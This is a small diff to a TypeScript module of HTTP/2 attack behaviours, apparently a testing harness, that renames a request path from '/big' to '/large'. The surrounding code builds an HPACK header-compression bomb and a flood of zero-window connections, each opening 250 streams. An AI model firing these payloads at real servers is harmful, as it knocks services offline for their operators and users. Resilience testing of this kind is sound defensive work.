@@ -90,7 +90,7 @@ export function http2Attacks(host: string): Readonly<Record<string, Behaviour>> 
       opened(socket) {
         const entry = field('x-bomb', 'x'.repeat(500), true);
         const bomb = Buffer.concat([
-          requestFields(host, '/big'),
+          requestFields(host, '/large'),
           entry,
           ...Array.from({ length: 60 }, () => indexedField(62)),
         ]);
@@ -104,7 +104,7 @@ export function http2Attacks(host: string): Readonly<Record<string, Behaviour>> 
       connections: 200,
       opened(socket) {
         socket.write(Buffer.concat([preface, settingsFrame({ 4: 0 }), settingsAck]));
-        const asking = requestFields(host, '/big');
+        const asking = requestFields(host, '/large');
         socket.write(streams(250, 1, (stream) => frame(frameTypes.headers, endHeaders | endStream, stream, asking)));
       },
       // Keeps the connection from being idle.
